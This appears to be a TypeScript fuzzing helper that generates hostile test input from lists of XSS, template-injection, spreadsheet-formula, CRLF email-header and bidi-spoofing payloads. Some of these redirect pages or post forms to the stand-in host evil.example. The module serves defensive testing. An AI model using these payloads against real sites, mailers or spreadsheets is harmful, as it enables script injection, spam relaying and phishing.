import type { Dice } from './random.ts'

const MARKUP = [
  '<script>window.pwned=1</script>',
  '"><img src=x onerror=window.pwned=1>',
  "' onmouseover='window.pwned=1' x='",
  '</title><svg/onload=window.pwned=1>',
  '</style><style>*{display:none}</style>',
  '</textarea><iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:window.pwned=1">x</a>',
  'javascript:window.pwned=1',
  '<!-- ',
  '--><b>',
  ']]>',
  '&lt;script&gt;',
  '&#x3c;b&#x3e;',
  '{{constructor.constructor("window.pwned=1")()}}',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for somebody else's template.
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '=1+1',
  '@SUM(A1:A9)',
  '+cmd|calc!A0',
  '-2+3',
  '%0d%0aBcc: eve@evil.example',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><button>',
  '\\u003cscript\\u003e',
  "');window.pwned=1;('",
  '"\'`',
] as const
const CONTROLS = [
  '\r\nBcc: eve@evil.example',
  '\r\n\r\n<b>x</b>',
  '\0',
  '\u0007',
  '\u001b[2J',
  '\u0085',
  '\t',
] as const
const UNICODE = [
  '\u202egnp.exe',
  '\u2066abc\u2069',
  '\u200b',
  '\u2028',
  '\u2029',
  '\ufeff',
  'e\u0301\u0302\u0303\u0304\u0305',
  'عربي',
  'שלום',
  '𝕏',
  'Ⅷ',
  '＜script＞',
  '\ufffe',
] as const

/** A text as nobody is called: markup, formulas, templates, direction marks; at times control characters. */
export function hostileText(dice: Dice, longest: number, { controls = 0.15 } = {}): string {
  const parts: string[] = Array.from({ length: 1 + dice.below(3) }, () => {
    if (dice.chance(controls)) return dice.pick(CONTROLS)
    return dice.chance(0.25) ? dice.pick(UNICODE) : dice.pick(MARKUP)
  })
  if (dice.chance(0.05)) parts.push('W'.repeat(longest))
  return Array.from(parts.join(dice.chance(0.5) ? '' : ' '))
    .join('')
    .slice(0, longest)
    .toWellFormed()
}

/** Addresses that try to be headers, several addresses, or markup. */
export function hostileEmail(dice: Dice): string {
  return dice.pick([
    'a@example.org\r\nBcc: eve@evil.example',
    '"a\r\nBcc: eve"@example.org',
    'a@example.org, eve@evil.example',
    'a@example.org;eve@evil.example',
    '<a@example.org>',
    'a@example.org>\r\nRCPT TO:<eve@evil.example',
    '"<script>"@example.org',
    "o'brien+<b>@example.org",
    'a@example.org%0aeve@evil.example',
    '=1+1@example.org',
    "o'neil+x@example.org",
    `${'a'.repeat(250)}@example.org`,
    'a@[127.0.0.1]',
    'a@localhost',
    '@SUM@example.org',
    'à@example.org',
    'a@xn--80ak6aa92e.example',
    '\u202ea@example.org',
  ])
}
